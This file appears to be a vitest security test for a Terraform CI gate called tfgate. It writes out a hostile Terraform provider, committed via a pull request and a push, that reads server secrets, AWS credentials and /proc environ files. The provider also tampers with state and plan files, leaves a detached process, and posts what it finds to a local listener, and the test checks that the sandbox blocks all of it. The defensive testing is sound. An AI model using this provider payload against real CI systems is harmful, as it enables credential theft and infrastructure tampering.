/**
 * Issue 21, tried as an attacker would: a provider committed under terraform.d/plugins runs at plan time
 * (real terraform starts it to read its schema), in a pull request and in a push of one repository,
 * while another repository's state and stored plan sit in the same data directory. It looks for every
 * secret it can read (tfgate's keys, the other repository's state, the user's ~/.aws, tfgate's own
 * environment), tries to change state files and stored plans, and leaves a process behind with
 * `env -i setsid`. It reports what it found over the network (network stays on in the sandbox).
 *
 * Run as root and as an ordinary user (`tfuser`, created when missing): the whole `tfgate local` runs
 * as that user, as a person would start it.
 */
import { execFileSync, spawn } from 'node:child_process';
import { createHash, createHmac, randomBytes, randomUUID } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { chmod, chown, lstat, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI } from '../support/cli-process.js';
import { until } from '../support/poll.js';

const REAL_TERRAFORM = '/usr/local/bin/terraform';
const IS_ROOT = process.getuid?.() === 0;
const runnable = existsSync(REAL_TERRAFORM) && os.platform() === 'linux';
const ORDINARY_USER = 'tfuser';

interface Account {
  name: string;
  uid: number;
  gid: number;
  /** Wraps a command so it runs as this account (runuser), or as is for the test's own. */
  wrap(command: string, args: string[]): [string, string[]];
}

function ownAccount(): Account {
  return {
    name: os.userInfo().username,
    uid: process.getuid!(),
    gid: process.getgid!(),
    wrap: (command, args) => [command, args],
  };
}

function ordinaryAccount(): Account {
  try {
    execFileSync('id', [ORDINARY_USER], { stdio: 'ignore' });
  } catch {
    execFileSync('useradd', ['-m', ORDINARY_USER], { stdio: 'ignore' });
  }
  const uid = Number(execFileSync('id', ['-u', ORDINARY_USER], { encoding: 'utf8' }).trim());
  const gid = Number(execFileSync('id', ['-g', ORDINARY_USER], { encoding: 'utf8' }).trim());
  return {
    name: ORDINARY_USER,
    uid,
    gid,
    // runuser keeps the environment given (-m would, too); `env` sets what the account's process sees.
    wrap: (command, args) => ['runuser', ['-u', ORDINARY_USER, '--', command, ...args]],
  };
}

const PROVIDER_PATH =
  'terraform.d/plugins/registry.terraform.io/evil/probe/1.0.0/linux_amd64/terraform-provider-probe_v1.0.0';

/** The hostile provider: a node script (node is on the machine and so in the sandbox's /usr). */
function probeProvider(settings: { dataDir: string; home: string; port: number; kind: string; nonce: string }): string {
  return `#!/usr/bin/env node
const fs = require('fs');
const path = require('path');
const S = ${JSON.stringify(settings)};
const report = {
  kind: S.kind, uid: process.getuid(), read: {}, listed: {}, wrote: [], planted: [], environ: [], env: process.env,
};
const tryRead = (f) => { try { report.read[f] = fs.readFileSync(f, 'latin1').slice(0, 20000); } catch {} };
function walk(dir, depth) {
  let entries;
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  report.listed[dir] = entries.map((e) => e.name);
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && depth < 12) walk(p, depth + 1);
    else if (e.isFile()) tryRead(p);
  }
}
for (const name of ['session-key', 'local-credential', 'webhook-secret'])
  tryRead(path.join(S.dataDir, 'secrets', name));
walk(S.dataDir, 0);
tryRead(path.join(S.home, '.aws', 'credentials'));
tryRead(path.join(process.env.HOME || '/nonexistent', '.aws', 'credentials'));
for (const p of fs.readdirSync('/proc')) {
  if (!/^\\d+$/.test(p)) continue;
  try { report.environ.push(fs.readFileSync('/proc/' + p + '/environ', 'latin1')); } catch {}
}
const writable = [];
for (const repo of ['acme__low', 'acme__crit'])
  for (const env of ['ops', 'apps'])
    writable.push(path.join(S.dataDir, 'state', repo, 'terraform.tfstate.d', env, 'terraform.tfstate'));
try {
  for (const run of fs.readdirSync(path.join(S.dataDir, 'artifacts', 'runs')))
    for (const env of fs.readdirSync(path.join(S.dataDir, 'artifacts', 'runs', run)))
      writable.push(path.join(S.dataDir, 'artifacts', 'runs', run, env, 'plan', 'tfplan'));
} catch {}
for (const file of writable) {
  try { fs.appendFileSync(file, '\\n'); report.wrote.push(file); } catch {}
}
for (const dir of [path.join(S.dataDir, 'secrets'), path.join(S.dataDir, 'state', 'acme__crit'), S.dataDir]) {
  // Inside the sandbox a parent of a mount may be an empty in-memory directory: what counts is the host.
  const planted = path.join(dir, 'planted-' + S.kind);
  try { fs.writeFileSync(planted, 'x'); report.planted.push(planted); } catch {}
}
require('child_process')
  .spawn('env', ['-i', 'setsid', 'sh', '-c', 'sleep 1000; : ' + S.nonce], { detached: true, stdio: 'ignore' })
  .unref();
// The network stays on: every listening loopback port is asked for DynamoDB's table list (dynalite checks
// no credential), and a tfgate local server for its runs.
const ports = new Set();
for (const table of ['/proc/net/tcp', '/proc/net/tcp6']) {
  try {
    for (const line of fs.readFileSync(table, 'utf8').split('\\n').slice(1)) {
      const f = line.trim().split(/\\s+/);
      if (f[3] === '0A') ports.add(parseInt(f[1].split(':').pop(), 16));
    }
  } catch {}
}
report.dynamo = [];
// Any tfgate on this machine may answer (the loopback is shared); what counts is this test's own runs.
const dynamo = (port, target, body) => new Promise((resolve) => {
  const r = require('http').request(
    { host: '127.0.0.1', port, method: 'POST', path: '/', timeout: 2000, headers: {
      'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'DynamoDB_20120810.' + target,
      authorization:
        'AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=0',
      'x-amz-date': '20260101T000000Z' } },
    (res) => {
      let b = '';
      res.on('data', (d) => (b += d));
      res.on('end', () => resolve(b));
    });
  r.on('error', () => resolve('')); r.on('timeout', () => { r.destroy(); resolve(''); }); r.end(body);
});
const ask = async (port) => {
  if (!(await dynamo(port, 'ListTables', '{}')).includes('tfgate-runs')) return;
  const runs = await dynamo(port, 'Scan', JSON.stringify({ TableName: 'tfgate-runs', Limit: 1000 }));
  if (runs.includes('acme/crit') || runs.includes('acme/low')) report.dynamo.push(port + ': runs of this stack');
};
const req0 = Promise.all([...ports].filter((p) => p !== S.port).map(ask));
req0.then(() => send());
function send() {
const req = require('http').request(
  { host: '127.0.0.1', port: S.port, method: 'POST', path: '/' + S.kind },
  (res) => { res.resume(); res.on('end', () => process.exit(1)); },
);
req.on('error', () => process.exit(1));
req.end(JSON.stringify(report));
}
`;
}

interface Report {
  kind: string;
  uid: number;
  read: Record<string, string>;
  listed: Record<string, string[]>;
  wrote: string[];
  planted: string[];
  /** Loopback ports that answered DynamoDB's ListTables. */
  dynamo: string[];
  environ: string[];
  env: Record<string, string>;
}

function processesWith(marker: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      if (readFileSync(`/proc/${entry}/cmdline`, 'latin1').includes(marker)) found.push(Number(entry));
    } catch {
      // Gone meanwhile.
    }
  }
  return found;
}

async function owners(dir: string): Promise<Array<{ path: string; uid: number; gid: number }>> {
  const out: Array<{ path: string; uid: number; gid: number }> = [];
  const walk = async (current: string) => {
    const info = await lstat(current);
    out.push({ path: current, uid: info.uid, gid: info.gid });
    if (info.isDirectory()) for (const name of await readdir(current)) await walk(path.join(current, name));
  };
  await walk(dir);
  return out;
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

describe.skipIf(!runnable)('a hostile provider in a pull request and a push (real terraform, bubblewrap)', () => {
  const accounts = IS_ROOT ? ['root', 'ordinary'] : ['own'];
  let reports: Report[] = [];
  let server: Server;
  let port = 0;
  const escapees: string[] = [];

  beforeAll(async () => {
    server = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      request.on('end', () => {
        try {
          reports.push(JSON.parse(body) as Report);
        } catch {
          // Not a report.
        }
        response.end('ok');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    for (const nonce of escapees)
      for (const pid of processesWith(nonce)) {
        try {
          process.kill(pid, 'SIGKILL');
        } catch {
          // Gone.
        }
      }
    await new Promise<void>((resolve) => server.close(() => resolve()));
    for (const [dir, mode] of traverseGranted) await chmod(dir, mode);
  });

  /**
   * The ordinary account runs the project's own CLI, so it must be able to reach it: a checkout under a
   * 0700 directory (`mktemp -d`) would stop it at the first step, long before anything under test. Each
   * ancestor that denies others passage gets o+x (passage only, no listing) until the file ends.
   */
  const traverseGranted: Array<[string, number]> = [];
  async function letOthersReach(file: string): Promise<void> {
    for (let dir = path.dirname(file); ; dir = path.dirname(dir)) {
      const { mode } = await lstat(dir);
      if ((mode & 0o001) === 0) {
        traverseGranted.push([dir, mode & 0o7777]);
        await chmod(dir, (mode & 0o7777) | 0o001);
      }
      if (dir === path.dirname(dir)) return;
    }
  }

  it.each(accounts)(
    'as %s: reads no secret, changes no state or stored plan, leaves no process, changes no owner',
    async (which) => {
      reports = [];
      const account = which === 'ordinary' ? ordinaryAccount() : ownAccount();
      if (which === 'ordinary') await letOthersReach(CLI);
      const base = await mkdtemp(path.join(os.tmpdir(), 'tfgate-hostile-'));
      await chmod(base, 0o755);
      const home = path.join(base, 'home');
      const dataDir = path.join(base, 'data');
      const work = path.join(base, 'work');
      const homeMarker = `aws_secret_access_key = HOMEMARKER${randomBytes(8).toString('hex')}`;
      const webhookSecret = `whs-${randomBytes(12).toString('hex')}`;
      const envCanary = `tfgate-env-canary-${randomBytes(12).toString('hex')}`;
      const critSecret = `crit-secret-${randomBytes(12).toString('hex')}`;
      await mkdir(path.join(home, '.aws'), { recursive: true });
      await writeFile(path.join(home, '.aws', 'credentials'), `[default]\n${homeMarker}\n`);
      await chmod(path.join(home, '.aws', 'credentials'), 0o600);
      await mkdir(work, { recursive: true });
      const config = path.join(base, 'tfgate.yaml');
      await writeFile(
        config,
        [
          'repositories:',
          '  - name: acme/low',
          '    branch: main',
          '    environments:',
          '      - name: ops',
          '  - name: acme/crit',
          '    branch: main',
          '    environments:',
          '      - name: ops',
          '      - name: apps',
          '        approval:',
          '          approvers: [approver@example.com]',
          '',
        ].join('\n'),
      );
      for (const entry of await owners(base)) await chown(entry.path, account.uid, account.gid);

      const env: NodeJS.ProcessEnv = {
        PATH: process.env.PATH,
        HOME: home,
        TMPDIR: path.join(base, 'tmp'),
        LANG: 'C.UTF-8',
        TFGATE_WEBHOOK_SECRET: webhookSecret,
        TFGATE_SOME_SETTING: envCanary,
        GIT_AUTHOR_NAME: 'dev',
        GIT_AUTHOR_EMAIL: 'dev@example.com',
        GIT_COMMITTER_NAME: 'dev',
        GIT_COMMITTER_EMAIL: 'dev@example.com',
        CHECKPOINT_DISABLE: '1',
      };
      await mkdir(env.TMPDIR!, { recursive: true });
      await chown(env.TMPDIR!, account.uid, account.gid);
      const run = (command: string, args: string[], cwd = base) => {
        const [c, a] = account.wrap(command, args);
        return execFileSync(c, a, { cwd, env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
      };

      const [cmd, args] = account.wrap(process.execPath, [
        CLI,
        'local',
        '--port',
        '0',
        '--data',
        dataDir,
        '--config',
        config,
        '--terraform',
        REAL_TERRAFORM,
      ]);
      const child = spawn(cmd, args, { cwd: base, env, stdio: ['ignore', 'pipe', 'pipe'] });
      let output = '';
      child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
      child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
      try {
        await until('tfgate local to start', () => (/Push to a remote above/.test(output) ? true : undefined), 90_000);
        const url = /runs page:\s+(http:\/\/\S+)\/runs/.exec(output)![1]!;
        const remote = (name: string) => new RegExp(`${name}: git push (\\S+) HEAD:`).exec(output)![1]!;
        const credential = (await readFile(path.join(dataDir, 'secrets', 'local-credential'), 'utf8')).trim();
        const runsNow = async () => {
          try {
            const response = await fetch(`${url}/runs`, {
              headers: { accept: 'application/json', authorization: `Bearer ${credential}`, connection: 'close' },
            });
            return ((await response.json()) as { runs: Array<Record<string, unknown>> }).runs;
          } catch {
            // A connection the server closed between two polls: ask again.
            return [];
          }
        };
        const runFor = (sha: string, statuses: string[]) =>
          until(
            `a run of ${sha.slice(0, 8)} in ${statuses.join('|')}`,
            async () => (await runsNow()).find((r) => r.sha === sha && statuses.includes(String(r.status))),
            180_000,
            500,
          );

        const commit = (repository: string, files: Record<string, string>, branch = 'main'): string => {
          const dir = path.join(work, repository.replace('/', '__'));
          if (!existsSync(dir)) {
            run('git', ['init', '-q', dir]);
            run('git', ['-C', dir, 'checkout', '-q', '-b', 'main']);
          }
          run('git', ['-C', dir, 'checkout', '-q', '-B', branch]);
          for (const [name, body] of Object.entries(files)) {
            const file = path.join(dir, name);
            run('mkdir', ['-p', path.dirname(file)]);
            execFileSync(...account.wrap('sh', ['-c', 'printf %s "$1" > "$2"', 'sh', body, file]), { env });
            if (name.includes('terraform.d/plugins')) run('chmod', ['+x', file]);
          }
          run('git', ['-C', dir, 'add', '-A']);
          run('git', ['-C', dir, 'commit', '-q', '-m', `change ${randomUUID()}`]);
          run('git', ['-C', dir, 'push', '-q', '--force', remote(repository), `HEAD:${branch}`]);
          return run('git', ['-C', dir, 'rev-parse', 'HEAD']).trim();
        };
        const hostile = (kind: string, nonce: string) => ({
          'main.tf':
            'terraform {\n  required_providers {\n    probe = { source = "evil/probe", version = "1.0.0" }\n  }\n}\n' +
            'provider "probe" {}\n',
          [PROVIDER_PATH]: probeProvider({ dataDir, home, port, kind, nonce }),
        });

        // The victim: acme/crit's ops state holds a secret, its apps plan waits for approval.
        const critSha = commit('acme/crit', {
          'main.tf': `resource "terraform_data" "secret" {\n  input = "${critSecret}"\n}\n`,
        });
        const critRun = await runFor(critSha, ['awaiting_approval']);
        const critState = path.join(dataDir, 'state', 'acme__crit', 'terraform.tfstate.d', 'ops', 'terraform.tfstate');
        const critPlan = path.join(dataDir, 'artifacts', 'runs', String(critRun.id), 'apps', 'plan', 'tfplan');
        expect(await readFile(critState, 'utf8')).toContain(critSecret);
        // acme/low has state of its own before the attack.
        const lowSha = commit('acme/low', { 'main.tf': 'resource "terraform_data" "a" {\n  input = "low"\n}\n' });
        await runFor(lowSha, ['succeeded']);
        const lowState = path.join(dataDir, 'state', 'acme__low', 'terraform.tfstate.d', 'ops', 'terraform.tfstate');
        const before = {
          critState: sha256(await readFile(critState)),
          critPlan: sha256(await readFile(critPlan)),
          lowState: sha256(await readFile(lowState)),
        };

        // The attack, in a pull request.
        const prNonce = `tfgate-escapee-${randomBytes(8).toString('hex')}`;
        escapees.push(prNonce);
        const prSha = commit('acme/low', hostile('pull-request', prNonce), 'feature');
        const payload = JSON.stringify({
          action: 'opened',
          number: 7,
          pull_request: {
            number: 7,
            head: { sha: prSha, ref: 'feature', repo: { full_name: 'acme/low' } },
            base: { ref: 'main', repo: { full_name: 'acme/low' } },
          },
          repository: { full_name: 'acme/low', clone_url: 'https://github.com/acme/low.git' },
          sender: { login: 'mallory' },
        });
        const answer = await fetch(`${url}/webhook`, {
          method: 'POST',
          headers: {
            'content-type': 'application/json',
            'x-github-event': 'pull_request',
            'x-github-delivery': randomUUID(),
            'x-hub-signature-256': `sha256=${createHmac('sha256', webhookSecret).update(payload).digest('hex')}`,
          },
          body: payload,
        });
        expect(answer.status).toBe(202);
        await runFor(prSha, ['failed', 'succeeded']);
        // The pull request changed no state at all, its own repository's included.
        expect.soft(sha256(await readFile(lowState)), 'the pull request changed its own state').toBe(before.lowState);

        // The attack, in a push to acme/low's tracked branch.
        const pushNonce = `tfgate-escapee-${randomBytes(8).toString('hex')}`;
        escapees.push(pushNonce);
        const pushSha = commit('acme/low', hostile('push', pushNonce), 'main');
        await runFor(pushSha, ['failed', 'succeeded']);

        const kinds = new Set(reports.map((r) => r.kind));
        expect(kinds, output).toEqual(new Set(['pull-request', 'push']));
        const found = JSON.stringify(reports);
        const serverSecrets = [
          (await readFile(path.join(dataDir, 'secrets', 'session-key'), 'utf8')).trim(),
          credential,
          webhookSecret,
        ];
        for (const secret of [...serverSecrets, envCanary, critSecret, homeMarker])
          expect.soft(found.includes(secret), `the provider found ${secret.slice(0, 12)}…`).toBe(false);
        for (const report of reports) {
          // The push may write its own repository's ops state (a deploy build owns it); nothing else.
          const allowed = report.kind === 'push' ? [lowState] : [];
          expect
            .soft(
              report.wrote.filter((file) => !allowed.includes(file)),
              `${report.kind} wrote`,
            )
            .toEqual([]);
          expect.soft(report.dynamo, `${report.kind} reached DynamoDB`).toEqual([]);
          expect
            .soft(
              report.planted.filter((file) => existsSync(file)),
              `${report.kind} planted`,
            )
            .toEqual([]);
          expect
            .soft(
              Object.keys(report.listed).filter((dir) => dir.includes('acme__crit')),
              `${report.kind} listed`,
            )
            .toEqual([]);
        }
        expect.soft(sha256(await readFile(critState)), 'crit state changed').toBe(before.critState);
        expect.soft(sha256(await readFile(critPlan)), 'crit plan changed').toBe(before.critPlan);

        // Whatever the builds started is gone once they ended: the namespace went with them.
        for (const nonce of [prNonce, pushNonce])
          await until(
            `no process of ${nonce} left`,
            () => (processesWith(nonce).length === 0 ? true : undefined),
            20_000,
          ).catch((error: Error) => expect.soft(error.message).toBe(''));

        // Nothing in the data directory belongs to anyone but the account tfgate local runs as.
        const strangers = (await owners(dataDir)).filter((e) => e.uid !== account.uid || e.gid !== account.gid);
        expect.soft(strangers.slice(0, 5), `${strangers.length} entries changed owner`).toEqual([]);
      } catch (error) {
        throw new Error(`${(error as Error).message}\n--- tfgate local said:\n${output.slice(-6000)}`, {
          cause: error,
        });
      } finally {
        child.kill('SIGTERM');
        await new Promise((resolve) => child.once('exit', resolve));
        await rm(base, { recursive: true, force: true });
      }
    },
    420_000,
  );
});
